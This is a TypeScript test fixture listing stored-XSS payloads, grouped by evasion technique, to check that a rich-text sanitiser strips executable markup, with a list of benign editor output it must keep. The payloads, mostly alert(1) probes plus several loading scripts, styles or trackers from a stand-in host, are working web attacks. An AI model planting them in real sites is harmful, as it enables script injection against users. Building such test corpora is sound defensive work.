/**
 * Stored-XSS payloads for the follow-up's rich text (issue 12 §2). The API test stores each one as an
 * annotation and checks that what comes back holds no executable vector; the browser test renders
 * what the API kept in Chromium and checks that nothing runs. Every executing payload calls
 * `alert(...)` (or loads a script or frame), so a browser test can listen for dialogs and requests.
 *
 * Gathered from the usual sources (OWASP's filter-evasion cheat sheet, PortSwigger's XSS cheat sheet,
 * the DOMPurify and sanitize-html test suites, Heyes/Heiderich's mutation-XSS papers), grouped by
 * the trick they play. Ids are stable: a failure names its payload.
 */
export interface XssPayload {
  id: string;
  html: string;
}

const scriptTags: XssPayload[] = [
  { id: 'script-plain', html: '<script>alert(1)</script>' },
  { id: 'script-upper', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { id: 'script-src', html: '<script src="https://evil.example/x.js"></script>' },
  { id: 'script-protocol-relative', html: '<script src=//evil.example/x.js></script>' },
  { id: 'script-in-paragraph', html: '<p>oi<script>alert(1)</script>tchau</p>' },
  { id: 'script-unclosed', html: '<script>alert(1)' },
  { id: 'script-split', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { id: 'script-attribute-noise', html: '<script/xss src="https://evil.example/x.js"></script>' },
  { id: 'script-type-module', html: '<script type="module">alert(1)</script>' },
  { id: 'script-double-open', html: '<<script>alert(1);//<</script>' },
  { id: 'script-after-close-p', html: '<p>a</p></p><script>alert(1)</script>' },
  { id: 'script-in-heading', html: '<h1>t<script>alert(1)</script></h1>' },
];

const eventHandlers: XssPayload[] = [
  { id: 'img-onerror', html: '<img src=x onerror=alert(1)>' },
  { id: 'img-onerror-quoted', html: '<img src="x" onerror="alert(1)">' },
  { id: 'img-onerror-own-file', html: '<img src="/api/arquivos/x.jpg" onerror="alert(1)">' },
  {
    id: 'img-onload',
    html: '<img src="/api/arquivos/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.jpg" onload=alert(1)>',
  },
  { id: 'img-slash-separator', html: '<img/src=x/onerror=alert(1)>' },
  { id: 'img-newline-separator', html: '<img\nsrc=x\nonerror=alert(1)>' },
  { id: 'img-uppercase-handler', html: '<IMG SRC=x ONERROR=alert(1)>' },
  { id: 'p-onclick', html: '<p onclick="alert(1)">clique</p>' },
  { id: 'p-onmouseover', html: '<p onmouseover=alert(1)>passe o mouse</p>' },
  { id: 'a-onfocus-autofocus', html: '<a href="https://ok.example" onfocus=alert(1) autofocus tabindex=1>x</a>' },
  { id: 'span-onanimationstart', html: '<span style="animation-name:x" onanimationstart=alert(1)>x</span>' },
  { id: 'strong-onpointerenter', html: '<strong onpointerenter=alert(1)>x</strong>' },
  { id: 'body-onload', html: '<body onload=alert(1)>' },
  { id: 'svg-onload', html: '<svg onload=alert(1)>' },
  { id: 'svg-slash-onload', html: '<svg/onload=alert(1)>' },
  { id: 'input-autofocus', html: '<input autofocus onfocus=alert(1)>' },
  { id: 'details-ontoggle', html: '<details open ontoggle=alert(1)>' },
  { id: 'video-onerror', html: '<video><source onerror=alert(1)></video>' },
  { id: 'audio-onerror', html: '<audio src=x onerror=alert(1)>' },
  { id: 'marquee-onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { id: 'select-onfocus', html: '<select autofocus onfocus=alert(1)></select>' },
  { id: 'textarea-onfocus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
  { id: 'keygen-onfocus', html: '<keygen autofocus onfocus=alert(1)>' },
  { id: 'handler-backtick', html: '<img src=x onerror=`alert(1)`>' },
  { id: 'handler-entity-encoded', html: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">' },
  { id: 'li-onclick-in-list', html: '<ul><li onclick=alert(1)>item</li></ul>' },
  { id: 'mark-onmouseenter', html: '<mark onmouseenter=alert(1) style="background-color:#ff0">x</mark>' },
  { id: 'handler-null-byte-name', html: '<img src=x on\u0000error=alert(1)>' },
];

const javascriptUrls: XssPayload[] = [
  { id: 'a-javascript', html: '<a href="javascript:alert(1)">x</a>' },
  { id: 'a-javascript-upper', html: '<a href="JAVASCRIPT:alert(1)">x</a>' },
  { id: 'a-javascript-spaces', html: '<a href="  javascript:alert(1)">x</a>' },
  { id: 'a-javascript-tab', html: '<a href="java\tscript:alert(1)">x</a>' },
  { id: 'a-javascript-newline', html: '<a href="java\nscript:alert(1)">x</a>' },
  { id: 'a-javascript-cr', html: '<a href="java\rscript:alert(1)">x</a>' },
  { id: 'a-javascript-entity-tab', html: '<a href="java&#x09;script:alert(1)">x</a>' },
  { id: 'a-javascript-entity-newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  {
    id: 'a-javascript-decimal-entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    id: 'a-javascript-hex-entities',
    html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  },
  {
    id: 'a-javascript-entities-no-semicolon',
    html: '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  },
  {
    id: 'a-javascript-padded-entities',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { id: 'a-javascript-named-colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { id: 'a-javascript-null-byte', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { id: 'a-javascript-leading-control', html: '<a href="\u0001javascript:alert(1)">x</a>' },
  { id: 'a-javascript-unquoted', html: '<a href=javascript:alert(1)>x</a>' },
  { id: 'a-javascript-backticks', html: '<a href=`javascript:alert(1)`>x</a>' },
  { id: 'a-vbscript', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { id: 'a-livescript', html: '<a href="livescript:alert(1)">x</a>' },
  { id: 'a-javascript-percent-encoded', html: '<a href="javascript:%61lert(1)">x</a>' },
  { id: 'a-javascript-url-encoded-scheme', html: '<a href="%6Aavascript:alert(1)">x</a>' },
  { id: 'a-relative-path', html: '<a href="/plataforma/home">interno</a>' },
  { id: 'a-protocol-relative', html: '<a href="//evil.example/">x</a>' },
  { id: 'img-src-javascript', html: '<img src="javascript:alert(1)">' },
  { id: 'iframe-src-javascript', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { id: 'form-action-javascript', html: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { id: 'button-formaction', html: '<form><button formaction="javascript:alert(1)">go</button></form>' },
  { id: 'a-xlink-href', html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>' },
  { id: 'math-href', html: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>' },
  { id: 'base-href', html: '<base href="javascript:alert(1)//"><a href="/x">x</a>' },
  { id: 'meta-refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { id: 'object-data', html: '<object data="javascript:alert(1)"></object>' },
  { id: 'embed-src', html: '<embed src="javascript:alert(1)">' },
];

const dataUrls: XssPayload[] = [
  { id: 'a-data-html', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { id: 'a-data-html-base64', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { id: 'a-data-upper', html: '<a href="DATA:text/html,<script>alert(1)</script>">x</a>' },
  { id: 'img-data-svg', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  { id: 'img-data-png', html: '<img src="data:image/png;base64,iVBORw0KGgo=">' },
  { id: 'iframe-data', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  {
    id: 'object-data-url',
    html: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  },
  { id: 'embed-data-svg', html: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { id: 'a-data-entity-encoded', html: '<a href="&#100;ata:text/html,<script>alert(1)</script>">x</a>' },
  { id: 'img-external', html: '<img src="https://evil.example/tracker.png">' },
  { id: 'img-srcset', html: '<img src="/api/arquivos/x.jpg" srcset="https://evil.example/a.png 1x">' },
  { id: 'img-own-file-traversal', html: '<img src="/api/arquivos/../auth/sair">' },
  { id: 'img-own-file-lookalike', html: '<img src="/api/arquivos.evil.example/x.jpg">' },
];

const svgAndMath: XssPayload[] = [
  { id: 'svg-script', html: '<svg><script>alert(1)</script></svg>' },
  { id: 'svg-script-href', html: '<svg><script href="data:,alert(1)"></script></svg>' },
  { id: 'svg-animate', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    id: 'svg-set-href',
    html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  {
    id: 'svg-use-data',
    html: '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
  },
  { id: 'svg-foreignobject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  { id: 'svg-image-onerror', html: '<svg><image href="x" onerror="alert(1)"/></svg>' },
  { id: 'svg-style-script', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { id: 'svg-desc-breakout', html: '<svg><desc><p><img src=x onerror=alert(1)></p></desc></svg>' },
  {
    id: 'math-mglyph',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    id: 'math-maction',
    html: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { id: 'math-style-breakout', html: '<math><mi><style><img src=x onerror=alert(1)></style></mi></math>' },
];

const styles: XssPayload[] = [
  { id: 'style-tag', html: '<style>@import "https://evil.example/x.css";</style>' },
  { id: 'style-tag-body', html: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { id: 'style-attr-expression', html: '<p style="width:expression(alert(1))">x</p>' },
  { id: 'style-attr-url-javascript', html: '<p style="background-image:url(javascript:alert(1))">x</p>' },
  { id: 'style-attr-url-external', html: '<span style="background:url(https://evil.example/track.png)">x</span>' },
  { id: 'style-attr-moz-binding', html: '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>' },
  { id: 'style-attr-behavior', html: '<p style="behavior:url(x.htc)">x</p>' },
  {
    id: 'style-attr-position-overlay',
    html: '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cobre a tela</p>',
  },
  { id: 'style-color-url', html: '<span style="color:url(javascript:alert(1))">x</span>' },
  { id: 'style-color-escaped', html: '<span style="color:\\72 ed;background:u\\72l(javascript:alert(1))">x</span>' },
  { id: 'style-comment-split', html: '<p style="background:url(java/**/script:alert(1))">x</p>' },
  {
    id: 'style-text-align-injection',
    html: '<p style="text-align:center;background:url(https://evil.example/x)">x</p>',
  },
  { id: 'link-stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { id: 'link-import', html: '<link rel="import" href="https://evil.example/x.html">' },
];

const mutationXss: XssPayload[] = [
  { id: 'mxss-noscript-title', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { id: 'mxss-title-breakout', html: '<title><img src=x onerror=alert(1)></title>' },
  { id: 'mxss-textarea-breakout', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { id: 'mxss-style-breakout', html: '<style><img src=x onerror=alert(1)></style>' },
  { id: 'mxss-xmp', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { id: 'mxss-noembed', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { id: 'mxss-noframes', html: '<noframes><img src=x onerror=alert(1)></noframes>' },
  { id: 'mxss-iframe-text', html: '<iframe><img src=x onerror=alert(1)></iframe>' },
  { id: 'mxss-template', html: '<template><img src=x onerror=alert(1)></template>' },
  { id: 'mxss-comment-attribute', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { id: 'mxss-bogus-comment', html: '<? foo="><script>alert(1)</script>">' },
  { id: 'mxss-cdata', html: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { id: 'mxss-attribute-quote-breakout', html: '<p title="a"><img src=x onerror=alert(1)>">x</p>' },
  { id: 'mxss-unclosed-attribute', html: '<a href="https://ok.example/" title="<img src=x onerror=alert(1)>">x</a>' },
  { id: 'mxss-svg-p-close', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { id: 'mxss-math-p-close', html: '<math></p><style><a title="</style><img src=1 onerror=alert(1)>">' },
  { id: 'mxss-form-nesting', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { id: 'mxss-table-select', html: '<table><select><option><img src=x onerror=alert(1)></option></select></table>' },
  { id: 'mxss-plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  { id: 'mxss-listing', html: '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>' },
  { id: 'mxss-backtick-attribute', html: '<img src="`<img src=x onerror=alert(1)>`">' },
  { id: 'mxss-nested-a', html: '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>' },
  { id: 'mxss-entity-in-text', html: '<p>&lt;img src=x onerror=alert(1)&gt;</p>' },
  { id: 'mxss-double-escaped', html: '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>' },
];

const encodedAndOther: XssPayload[] = [
  { id: 'enc-utf7', html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { id: 'enc-fullwidth-brackets', html: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e' },
  { id: 'enc-percent-tags', html: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  { id: 'enc-js-unicode-escape', html: '<img src=x onerror="\\u0061lert(1)">' },
  { id: 'enc-html-entity-tags', html: '&#60;script&#62;alert(1)&#60;/script&#62;' },
  { id: 'enc-null-in-tag', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { id: 'enc-overlong-utf8', html: '<img src=x onerror=\u00c0\u00bcalert(1)>' },
  { id: 'enc-rtl-override', html: '<a href="https://ok.example/\u202egnp.exe">x</a>' },
  { id: 'other-iframe-srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { id: 'other-frameset', html: '<frameset onload=alert(1)>' },
  { id: 'other-isindex', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { id: 'other-applet', html: '<applet code="javascript:alert(1)"></applet>' },
  {
    id: 'other-dialog-open',
    html: '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  },
  { id: 'other-a-target-opener', html: '<a href="https://evil.example" target="_self" rel="opener">x</a>' },
  { id: 'other-a-download', html: '<a href="https://evil.example/x.exe" download>baixar</a>' },
  { id: 'other-a-ping', html: '<a href="https://ok.example" ping="https://evil.example/track">x</a>' },
  { id: 'other-id-clobbering', html: '<p id="__proto__" name="location">x</p><img name="cookie">' },
  {
    id: 'other-data-attributes',
    html: '<p data-bind="alert(1)" data-ng-click="alert(1)">{{constructor.constructor("alert(1)")()}}</p>',
  },
  { id: 'other-class-injection', html: '<p class="mantine-Modal-root" data-color="x">x</p>' },
  { id: 'other-contenteditable', html: '<p contenteditable="true" tabindex="0">x</p>' },
  {
    id: 'other-xml-namespace',
    html: '<html xmlns:xss><?import namespace="xss" implementation="x.htc"><xss:xss>x</xss:xss></html>',
  },
  { id: 'other-xss-object-param', html: '<object><param name="src" value="javascript:alert(1)"></object>' },
  {
    id: 'other-mailto-header-injection',
    html: '<a href="mailto:a@b.example?body=%0d%0a<script>alert(1)</script>">x</a>',
  },
  { id: 'other-long-nesting', html: `${'<p>'.repeat(200)}<img src=x onerror=alert(1)>${'</p>'.repeat(200)}` },
];

export const XSS_CORPUS: readonly XssPayload[] = [
  ...scriptTags,
  ...eventHandlers,
  ...javascriptUrls,
  ...dataUrls,
  ...svgAndMath,
  ...styles,
  ...mutationXss,
  ...encodedAndOther,
];

/**
 * What the editor produces (spec §9 toolbar), which sanitising must keep as it is: the corpus's
 * counterpart, so a sanitiser that strips everything fails too.
 */
export const RICH_TEXT_KEEPS: readonly XssPayload[] = [
  { id: 'keep-paragraph', html: '<p>Conversamos sobre metas.</p>' },
  { id: 'keep-headings', html: '<h1>Título</h1><h2>Seção</h2><h3>Parte</h3><h4>Item</h4>' },
  { id: 'keep-marks', html: '<p><strong>negrito</strong> <em>itálico</em> <u>sublinhado</u> <s>riscado</s></p>' },
  { id: 'keep-lists', html: '<ul><li><p>um</p></li><li><p>dois</p></li></ul><ol start="3"><li><p>três</p></li></ol>' },
  {
    id: 'keep-link',
    html: '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://ponte.example/trilha">trilha</a></p>',
  },
  {
    id: 'keep-mailto',
    html: '<p><a target="_blank" rel="noopener noreferrer nofollow" href="mailto:rh@ponte.example">rh</a></p>',
  },
  {
    id: 'keep-colour',
    html: '<p><span style="color: #e03131">vermelho</span> <span style="color: rgb(47, 158, 68)">verde</span></p>',
  },
  {
    id: 'keep-highlight',
    html: '<p><mark data-color="#ffec99" style="background-color: #ffec99; color: inherit">destaque</mark></p>',
  },
  { id: 'keep-alignment', html: '<p style="text-align: center">centro</p><h2 style="text-align: right">direita</h2>' },
  {
    id: 'keep-own-image',
    html: '<p><img src="/api/arquivos/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.jpg" alt="quadro"></p>',
  },
  { id: 'keep-line-break', html: '<p>linha<br>outra</p>' },
];
